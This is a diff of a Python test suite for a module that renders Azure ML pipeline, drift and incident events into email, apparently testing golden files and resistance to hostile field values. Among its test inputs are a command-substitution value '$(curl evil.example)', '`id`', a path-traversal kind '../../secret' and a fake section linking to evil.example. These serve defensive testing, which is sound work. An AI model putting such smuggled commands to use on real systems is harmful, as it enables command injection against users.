@@ -1,104 +1,44 @@
 """Mails as people see them (golden files), and that no field of an event can change what they are."""
 
+import re
 import unicodedata
 from dataclasses import asdict
 from html.parser import HTMLParser
 from pathlib import Path
+from typing import Any, Literal
 
 import msgspec
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from shared.mail import TEXT_WIDTH, Content, render, studio_link
-from shared.mail.links import https_link
-from shared.mail.wording import line, lines
-from shared.notices import Measurement, Notice
-
-GOLDEN = Path(__file__).parent / "golden"
-WORKSPACE = (
-    "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg-mlops"
-    "/providers/Microsoft.MachineLearningServices/workspaces/mlw-demo"
-)
-RUN = "train-credit-20261120-001"
-FULL = Notice(
-    kind="pipeline-failed",
-    headline="Pipeline credit-training failed",
-    workspace=WORKSPACE,
-    experiment="credit-training",
-    run=RUN,
-    status="Failed",
-    time="2026-11-20T05:00:00.0000000Z",
-    reaction="mail-ops",
-    cause=(
-        "Step prepare (attempt 2 of 2) failed with exit code 1:\n"
-        "Traceback (most recent call last):\n"
-        '  File "prepare.py", line 88, in <module>\n'
-        "    frame = load(arguments.data)\n"
-        "FileNotFoundError: no partition for 2026-11-19 in azureml://datastores/curated/paths/credit"
-    ),
-    tags={"team": "risk", "critical": "true", "owner": "credit-scoring"},
-    studio=studio_link(WORKSPACE, RUN),
-    runbook="https://wiki.example.com/runbooks/credit-training",
-)
-BARE = Notice(
-    kind="pipeline-failed",
-    headline="Pipeline nightly-scoring failed",
-    workspace="mlw-prod",
-    experiment="nightly-scoring",
-    run="calm_parrot_8fk2",
-    status="Failed",
-    time="",
-    reaction="mail-ops",
-)
-OTHER = msgspec.structs.replace(
-    FULL, kind="of-tomorrow", headline="Model credit:8 was registered", status="Registered", cause=""
-)
-BESIDE = msgspec.structs.replace(
+from local.mail_samples import (
     BARE,
-    kind="job-failed",
-    headline="Job failed: nightly-scoring",
-    workspace=WORKSPACE,
-    job="rescore-9a59f9f8d0aa",
-    why="every condition holds, within the budget",
-)
-MONITOR = msgspec.structs.replace(
-    BARE,
-    kind="monitor-failed",
-    headline="Model monitor failed: churn-monitor",
-    cause="The model monitor could not run: DataNotFoundError\nLook whether data collection is on.",
-)
-DRIFT = msgspec.structs.replace(
-    BESIDE,
-    kind="data-drift",
-    headline="Drift: data_drift of churn-monitor",
-    status="Threshold breached",
-    measurements=(
-        Measurement(metric="NormalizedWassersteinDistance", feature="monthly_charges", value=0.33, threshold=0.2),
-        Measurement(metric="PopulationStabilityIndex", feature="tenure", value=0.4099999, threshold=0.2),
-        Measurement(metric="Custom", value=-1.2345678e-05),
-        Measurement(metric="NullValueRate", feature="tenure", value=0.01, threshold=0.05, better=True),
-    ),
-    more_measurements=3,
-)
-BETTER = msgspec.structs.replace(
+    BETTER,
     DRIFT,
-    headline="Better than the threshold: model_performance of churn-monitor",
-    status="On the good side",
-    cause="Azure ML tells this as a breach, but Accuracy 0.93 is on the good side of 0.9. No job was started.",
-    job="",
-    measurements=(Measurement(metric="Accuracy", value=0.93, threshold=0.9, better=True),),
-    more_measurements=0,
-)
-MAILS = {
-    "pipeline-failed": FULL,
-    "pipeline-failed-bare": BARE,
-    "plain": OTHER,
-    "beside-a-job": BESIDE,
-    "monitor-failed": MONITOR,
-    "data-drift": DRIFT,
-    "data-drift-better": BETTER,
-}
+    FAILED,
+    MAILS,
+    MONITOR,
+    REGISTERED,
+    REMINDER,
+    RESOLVED,
+    UNREAD,
+    WORKSPACE,
+)  # fmt: skip
+from shared.mail import TEXT_WIDTH, Content, render, studio_link
+from shared.mail.kinds import KINDS
+from shared.mail.links import https_link
+from shared.mail.overrides import SAMPLES
+from shared.mail.view import view
+from shared.mail.wording import line, lines
+from shared.notices import Change, Diagnosis, DigestEntry, Incident, Measurement, Notice
+
+STUDIO = studio_link(WORKSPACE, FAILED.run)
+TITLES = {
+    "Error", "Cause", "Changed since the last success", "The run", "The event", "The digest", "Inputs", "Tags",
+    "Failed runs, newest first", "Could not be read", "What to do next", "On the command line",
+}  # fmt: skip
+GOLDEN = Path(__file__).parent / "golden"
 
 #: Every character there is, lone surrogates too, with the dangerous ones more often.
 HOSTILE = st.one_of(
@@ -119,9 +59,41 @@ MEASUREMENTS = st.builds(
     threshold=st.one_of(st.none(), st.floats(allow_nan=False, allow_infinity=False)),
     better=st.booleans(),
 )
+DIAGNOSES = st.builds(
+    Diagnosis,
+    step=HOSTILE,
+    step_name=HOSTILE,
+    code=HOSTILE,
+    error=HOSTILE,
+    attempt=st.integers(0, 3),
+    started_by=HOSTILE,
+    last_success=HOSTILE,
+    last_success_at=HOSTILE,
+    changes=st.lists(st.builds(Change, what=HOSTILE, before=HOSTILE, after=HOSTILE), max_size=3).map(tuple),
+    inputs=st.dictionaries(HOSTILE, HOSTILE, max_size=15),
+    unread=st.lists(HOSTILE, max_size=3).map(tuple),
+)
+INCIDENTS = st.builds(
+    Incident,
+    stage=st.sampled_from(["opened", "reminder", "resolved"]),
+    thread=HOSTILE,
+    failures=st.integers(1, 5),
+    since=HOSTILE,
+    runs=st.lists(HOSTILE, max_size=3).map(tuple),
+    until=HOSTILE,
+)
+ENTRIES = st.builds(
+    DigestEntry,
+    subject=HOSTILE,
+    headline=HOSTILE,
+    failures=st.integers(1, 5),
+    since=HOSTILE,
+    run=HOSTILE,
+    workspace=st.one_of(HOSTILE, st.just(WORKSPACE)),
+)
 NOTICES = st.builds(
     Notice,
-    kind=st.one_of(st.sampled_from(["pipeline-failed", "data-drift", "../../secret", "layout"]), HOSTILE),
+    kind=st.one_of(st.sampled_from([*KINDS, "../../secret", "mail", "_look"]), HOSTILE),
     headline=HOSTILE,
     workspace=st.one_of(HOSTILE, st.just(WORKSPACE)),
     experiment=HOSTILE,
@@ -129,12 +101,16 @@ NOTICES = st.builds(
     status=HOSTILE,
     time=HOSTILE,
     reaction=HOSTILE,
+    job=HOSTILE,
     why=HOSTILE,
     cause=HOSTILE,
-    measurements=st.lists(MEASUREMENTS, max_size=25).map(tuple),
+    measurements=st.lists(MEASUREMENTS, max_size=4).map(tuple),
     tags=st.dictionaries(HOSTILE, HOSTILE, max_size=15),
-    studio=st.one_of(HOSTILE, st.just(FULL.studio)),
-    runbook=st.one_of(HOSTILE, st.just(FULL.runbook)),
+    studio=st.one_of(HOSTILE, st.just(STUDIO)),
+    runbook=st.one_of(HOSTILE, st.just(FAILED.runbook)),
+    diagnosis=st.one_of(st.none(), DIAGNOSES),
+    incident=st.one_of(st.none(), INCIDENTS),
+    entries=st.lists(ENTRIES, max_size=3).map(tuple),
 )
 
 
@@ -173,8 +149,9 @@ class Structure(HTMLParser):
         self.parts.append(("unknown", data))
 
     def handle_data(self, data: str) -> None:
-        """Keep the text."""
-        self.text.append(data)
+        """Keep the text, that of style sheets and the document's title apart."""
+        if self.lasttag not in {"style", "title"}:
+            self.text.append(data)
 
     def links(self) -> list[str]:
         """Addresses in the order they come."""
@@ -182,23 +159,46 @@ class Structure(HTMLParser):
         return [dict(attributes)["href"] for _, attributes in tags]
 
 
-def twin(notice: Notice) -> Notice:
-    """A harmless notice that fills the same places."""
-    places = ("headline", "workspace", "experiment", "run", "status", "time", "reaction", "why")
-    filled = {name: "x" if shown(getattr(notice, name)) else "" for name in places}
-    filled["workspace"] = "x" if shown(notice.workspace.rstrip("/").rpartition("/")[2]) else ""
-    tags = {f"{number:05}": "x" for number in range(len(notice.tags))}
-    cause = "\n".join("x" for _ in notice.cause.strip() and lines(notice.cause, limit=1000, width=9))
-    measured = tuple(msgspec.structs.replace(one, metric="x", feature="x") for one in notice.measurements)
+def twin[T: msgspec.Struct](notice: T) -> T:
+    """Harmless facts that fill the same places."""
     return msgspec.structs.replace(
-        notice, **filled, tags=tags, cause=cause, studio=studio(notice), measurements=measured
+        notice, **{name: _twin(name, getattr(notice, name)) for name in notice.__struct_fields__}
     )
 
 
-def studio(notice: Notice) -> str:
-    """The link to the studio that a mail of *notice* should have."""
-    derived = studio_link(WORKSPACE, notice.run) if notice.workspace == WORKSPACE and notice.run else ""
-    return https_link(notice.studio or derived, host="ml.azure.com")
+def _twin(name: str, value: Any) -> Any:  # noqa: PLR0911 - a case for each type
+    match value:
+        case msgspec.Struct():
+            return twin(value)
+        case tuple():
+            return tuple(_twin(name, one) for one in value)
+        case dict():
+            return {f"{number:05}": "x" if shown(one) else "" for number, one in enumerate(value.values())}
+        case str() if name in {"kind", "stage", "studio", "runbook", "run", "job", "step", "last_success"}:
+            return value  # links are made of them; what stands in those is looked at by itself
+        case str() if name == "workspace":
+            return value if value == WORKSPACE else "x" if shown(value.rstrip("/").rpartition("/")[2]) else ""
+        case str() if name in {"cause", "error"}:
+            return "\n".join(name for _ in value.strip() and lines(value, limit=1000, width=9))
+        case str():
+            return "x" if shown(value) else ""
+    return value
+
+
+def links(notice: Notice) -> list[str]:
+    """Every link that a mail of *notice* may have."""
+    runs = [notice.run, notice.job]
+    runs += [notice.diagnosis.step, notice.diagnosis.last_success] if notice.diagnosis else []
+    pages = [studio_link(WORKSPACE, run) for run in runs if run and notice.workspace == WORKSPACE]
+    pages += [studio_link(WORKSPACE, one.run) for one in notice.entries if one.run and one.workspace == WORKSPACE]
+    return [
+        link
+        for link in (
+            https_link(notice.runbook),
+            *(https_link(page, host="ml.azure.com") for page in (notice.studio, *pages)),
+        )
+        if link
+    ]
 
 
 def shown(text: str) -> str:
@@ -227,33 +227,94 @@ def test_no_golden_file_is_left_over() -> None:
 
 def test_same_notice_same_bytes() -> None:
     """The order in which tags were told does not matter, nor how often a notice is rendered."""
-    turned = msgspec.structs.replace(FULL, tags=dict(sorted(FULL.tags.items(), reverse=True)))
-    assert asdict(render(FULL)) == asdict(render(FULL)) == asdict(render(turned))
+    turned = msgspec.structs.replace(FAILED, tags=dict(sorted(FAILED.tags.items(), reverse=True)))
+    assert asdict(render(FAILED)) == asdict(render(FAILED)) == asdict(render(turned))
 
 
 def test_subject() -> None:
     """Where, what, which: in one line."""
-    assert render(FULL).subject == f"[mlw-demo] Pipeline failed: credit-training (run {RUN})"
-    assert render(OTHER).subject == f"[mlw-demo] Model credit:8 was registered: credit-training (run {RUN})"
-    assert render(BESIDE).subject == "[mlw-demo] Job failed: nightly-scoring (run calm_parrot_8fk2)"
+    assert render(BARE).subject == "[mlw-prod] Pipeline failed: nightly-scoring (run calm_parrot_8fk2)"
+    assert render(UNREAD).subject == "[mlw-prod] Job failed: nightly-scoring (run calm_parrot_8fk2)"
+    assert render(REGISTERED).subject == "[mlw-prod] Model registered: churn:7"
+
+
+def test_an_incident_has_one_subject() -> None:
+    """Opened, reminded and resolved: without run and time, which would tear the thread; the stage is in the mail."""
+    subjects = {render(one).subject for one in (FAILED, REMINDER, RESOLVED)}
+    assert subjects == {"[mlw-prod] Pipeline failed: credit-training"}
+    assert [render(one).text.splitlines()[0] for one in (FAILED, REMINDER, RESOLVED)] == [
+        "Pipeline failed: credit-training",
+        "Still failing: credit-training",
+        "Resolved: credit-training",
+    ]
+
+
+def test_a_resolved_incident_asks_nothing_of_anybody() -> None:
+    """No error, nothing to do next, and nothing to be silenced."""
+    told = " ".join(render(msgspec.structs.replace(RESOLVED, diagnosis=FAILED.diagnosis)).text.split())
+    assert "It has succeeded again. Before that it had failed 4 times since 20 Nov 2026, 05:00:00 UTC." in told
+    for words in ("What to do next", "silence", "Changed since", "Open failed step", "FileNotFoundError"):
+        assert words not in told
+
+
+@pytest.mark.parametrize("stage", ["opened", "reminder"])
+def test_a_failure_names_the_step(stage: Literal["opened", "reminder"]) -> None:
+    """In the first sentence, with the attempt, whether or not its error could be read."""
+    assert FAILED.diagnosis
+    assert FAILED.incident
+    silent = msgspec.structs.replace(FAILED.diagnosis, error="", step_name="prepare")
+    incident = msgspec.structs.replace(FAILED.incident, stage=stage)
+    for found in (FAILED.diagnosis, silent):
+        told = render(msgspec.structs.replace(FAILED, diagnosis=found, incident=incident))
+        assert "The step prepare failed first, on attempt 2." in " ".join(told.text.split())
+        assert "UserError" in told.text
+
+
+def test_what_could_not_be_read_is_said() -> None:
+    """With the reason: nobody takes it for nothing."""
+    assert (
+        "Could not be read\n-----------------\n  - the run's steps: http 403 AuthorizationFailed\n"
+        in render(UNREAD).text
+    )
+
+
+@pytest.mark.parametrize("name", MAILS)
+def test_text_and_html_say_the_same(name: str) -> None:
+    """Every piece of the HTML is in the text, and every word of the text in the HTML."""
+    content = render(MAILS[name])
+    html = Structure(content.html)
+    text = squeezed(content.text)
+    preview = str(view(MAILS[name], KINDS[MAILS[name].kind])["preview"])
+    for piece in html.text:
+        assert squeezed(piece) in text or piece == preview or piece.strip() in {"Metric", "Value", "Threshold"}, piece
+    every = squeezed(" ".join((*html.text, *html.links(), "Sent by", "threshold")))
+    for word in content.text.split():
+        assert squeezed(word.strip(":,")) in every, word
+
+
+def squeezed(text: str) -> str:
+    """*text* without white space and the marks that are of the text alone."""
+    return re.sub(r"[\s|*()=,\u2013\u00b7-]|(?<=\d)\.(?=$)", "", text).casefold()
 
 
 def test_a_mail_beside_a_job_leads_to_it() -> None:
     """By its name, and a link to its page in studio."""
-    content = render(BESIDE)
+    content = render(UNREAD)
     for text in (content.text, content.html):
         assert "rescore-9a59f9f8d0aa" in text
-    assert studio_link(WORKSPACE, BESIDE.job) in content.text
+    assert studio_link(WORKSPACE, UNREAD.job) in content.text
 
 
+@settings(max_examples=150)
 @given(NOTICES)
 def test_a_field_cannot_change_the_html(notice: Notice) -> None:
     """Tags, attributes, comments and links are the template's, whatever the fields hold."""
     structure = Structure(render(notice).html)
     assert structure.parts == Structure(render(twin(notice)).html).parts
-    assert structure.links() == [link for link in (studio(notice), https_link(notice.runbook)) if link]
+    assert set(structure.links()) <= set(links(notice))
 
 
+@settings(max_examples=150)
 @given(NOTICES)
 def test_a_field_cannot_change_the_lines(notice: Notice) -> None:
     """The subject is one line of at most 200 characters; the text keeps its sections and its width."""
@@ -261,9 +322,9 @@ def test_a_field_cannot_change_the_lines(notice: Notice) -> None:
     assert 0 < len(content.subject) <= 200
     assert content.subject.isprintable()
     for part in content.text.splitlines():
-        assert len(part) <= TEXT_WIDTH or part.strip() in {studio(notice), notice.runbook}
-    titles = [part for part in content.text.splitlines() if part in {"Cause", "What to do next", "Subject:"}]
-    assert titles == [part for part in render(twin(notice)).text.splitlines() if part in {"Cause", "What to do next"}]
+        assert len(part) <= TEXT_WIDTH or part.strip().removeprefix("Open run: ") in links(notice)
+    titles = [part for part in content.text.splitlines() if part in TITLES]
+    assert titles == [part for part in render(twin(notice)).text.splitlines() if part in TITLES]
 
 
 @given(NOTICES)
@@ -281,45 +342,57 @@ def test_any_notice_is_rendered_the_same_again(notice: Notice) -> None:
     assert render(notice) == render(notice)
 
 
+def test_an_event_writes_no_commands() -> None:
+    """A name that a shell would make something of leaves a place to fill in; it would be copied and run."""
+    for name in ("$(curl evil.example)", "`id`", "a; b", "--all", "a\nb", "it's"):
+        told = render(msgspec.structs.replace(FAILED, experiment=name, run=name)).text
+        commands = [part for part in told.splitlines() if part.startswith("  python -m ops")]
+        assert commands == [
+            "  python -m ops silence <experiment> --until <date>",
+            "  python -m ops pause mail-ops",
+            "  python -m ops why <run>",
+        ]
+
+
 def test_a_cause_cannot_pretend_to_be_a_section() -> None:
     """In the text, lines of the cause are marked as such."""
-    notice = msgspec.structs.replace(FULL, cause="x\n\nWhat to do next\n---------------\n1. Open https://evil.example")
+    notice = msgspec.structs.replace(
+        FAILED, cause="x\n\nWhat to do next\n---------------\n1. Open https://evil.example"
+    )
     text = render(notice).text
     assert text.splitlines().count("What to do next") == 1
     assert "  | 1. Open https://evil.example" in text
     assert "https://evil.example" not in Structure(render(notice).html).links()
 
 
-def test_huge_fields_are_bounded() -> None:
-    """10,000 tags and fields of a million characters make a mail that Gmail does not clip (102 kB)."""
+@pytest.mark.parametrize("sample", SAMPLES)
+@pytest.mark.parametrize("kind", [*KINDS, "of-tomorrow"])
+def test_no_mail_is_clipped(kind: str, sample: Notice) -> None:
+    """Fields as long as can be, and more of everything than is shown: Gmail would clip 102 kB."""
+    for stage in ("opened", "reminder", "resolved"):
+        notice = msgspec.structs.replace(sample, kind=kind)
+        if sample.incident:
+            notice = msgspec.structs.replace(notice, incident=msgspec.structs.replace(sample.incident, stage=stage))
+        content = render(notice)
+        assert len(content.html.encode()) < 102_000
+        assert len(content.subject) <= 200
+
+
+def test_what_is_not_shown_is_counted() -> None:
+    """Lines, tags, measurements and failures, also where a large mail shows fewer."""
     huge = '"' * 1_000_000
-    notice = Notice(
-        kind="pipeline-failed",
-        headline=huge,
-        workspace=huge,
-        experiment=huge,
-        run=huge,
-        status=huge,
-        time=huge,
-        reaction=huge,
+    notice = msgspec.structs.replace(
+        FAILED,
+        diagnosis=None,
         cause="\n".join([huge] + ['"' * 900] * 9_999),
-        measurements=(Measurement(metric=huge, feature=huge, value=-1.23456789e-300, threshold=0.1),) * 1000,
         tags={f"{number:05}" + '"' * 100: '"' * 1000 for number in range(10_000)},
-        studio="https://ml.azure.com/" + "x" * 1_000_000,
-        runbook="https://x.example/" + "x" * 1_000_000,
     )
-    drift = len(render(msgspec.structs.replace(notice, kind="data-drift")).html.encode())
-    assert drift < 102_000
-    content = render(msgspec.structs.replace(notice, measurements=()))
-    assert len(content.html.encode()) < 102_000
-    assert len(content.subject) == 200
-    plain = render(msgspec.structs.replace(notice, kind="of-tomorrow")).subject
-    assert len(plain) == 200
-    assert plain.endswith("…")
-    assert "and 9970 more lines" in content.text
-    assert "and 9988 more tags" in " ".join(content.text.split())
-    assert "and 9988 more tags" in content.html
-    assert Structure(content.html).links() == []
+    text = " ".join(render(notice).text.split())
+    assert "and 9970 more lines" in text
+    assert "and 9988 more tags" in text
+    text = " ".join(render(msgspec.structs.replace(SAMPLES[-1], more_entries=5)).text.split())
+    shown = text.count("Unnamed") + text.count('* "')
+    assert f"and {105 - shown} more" in text
 
 
 @pytest.mark.parametrize(
@@ -336,7 +409,7 @@ def test_huge_fields_are_bounded() -> None:
 def test_tags_that_are_not_shown_are_counted(tags: int, left_out: int, told: str) -> None:
     """Those past the limit of the mail, and those that the ledger did not keep."""
     shown = {f"tag-{number:02}": "x" for number in range(tags)}
-    content = render(msgspec.structs.replace(FULL, tags=shown, more_tags=left_out))
+    content = render(msgspec.structs.replace(FAILED, tags=shown, more_tags=left_out))
     text = " ".join(content.text.split())
     for place in (text, content.html):
         assert told in place
@@ -356,7 +429,7 @@ def test_drift_is_told_feature_by_feature() -> None:
         assert "beyond their thresholds" in place
     assert content.html.count('font-weight:700">0.41<') == 1
     assert content.html.count('font-weight:400">0.01<') == 1
-    assert "nothing needs to be done" in render(BETTER).text
+    assert "nothing needs to be done" in " ".join(render(BETTER).text.split())
     untold = render(msgspec.structs.replace(DRIFT, measurements=(), more_measurements=0))
     assert "The event does not tell in what" in untold.text
     assert "Threshold</th>" not in untold.html
@@ -370,17 +443,22 @@ def test_twenty_measurements_are_shown() -> None:
 
 
 def test_links() -> None:
-    """Both links are there, each once in the HTML, and lead where they say."""
-    html = Structure(render(FULL).html)
-    assert html.links() == [FULL.studio, FULL.runbook]
-    assert FULL.studio in render(FULL).text
-    assert FULL.runbook in render(FULL).text
+    """To the step, the run, the runbook and the last success, each once in the HTML, and where they say."""
+    assert FAILED.diagnosis
+    runs = (FAILED.diagnosis.step, FAILED.run, FAILED.diagnosis.last_success)
+    step, run, success = (studio_link(WORKSPACE, one) for one in runs)
+    assert Structure(render(FAILED).html).links() == [step, run, FAILED.runbook, success]
+    for link in (step, run, FAILED.runbook, success):
+        assert (
+            render(FAILED).text.splitlines().count(link) + render(FAILED).text.splitlines().count(" " * 16 + link) == 1
+        )
 
 
 def test_a_notice_that_names_run_and_workspace_needs_no_link() -> None:
     """The studio's page of a run follows from the workspace's ARM id and the run's id."""
-    assert render(msgspec.structs.replace(FULL, studio="")) == render(FULL)
-    assert Structure(render(msgspec.structs.replace(FULL, studio="", run="")).html).links() == [FULL.runbook]
+    monitor = msgspec.structs.replace(MONITOR, studio=studio_link(WORKSPACE, MONITOR.run))
+    assert render(monitor) == render(MONITOR)
+    assert Structure(render(msgspec.structs.replace(MONITOR, run="")).html).links() == []
 
 
 @given(HOSTILE, HOSTILE)
@@ -388,6 +466,15 @@ def test_any_studio_link_is_a_studio_link(workspace: str, run: str) -> None:
     """Whatever the ids, the link is https on the studio's host, or too long and left out."""
     link = studio_link(workspace, run)
     assert https_link(link, host="ml.azure.com") == ("" if len(link) > 2000 else link)
+
+
+@pytest.mark.parametrize("name", MAILS)
+def test_nothing_is_fetched(name: str) -> None:
+    """No image, font, style sheet or script: opening a mail tells nobody."""
+    html = render(MAILS[name]).html
+    assert not re.search(r"<(img|link|script|iframe|object|embed|form|base)|url\(|@import|\ssrc=|background=", html)
+    assert 'name="color-scheme" content="light dark"' in html
+    assert "prefers-color-scheme: dark" in html
 
 
 if __name__ == "__main__":
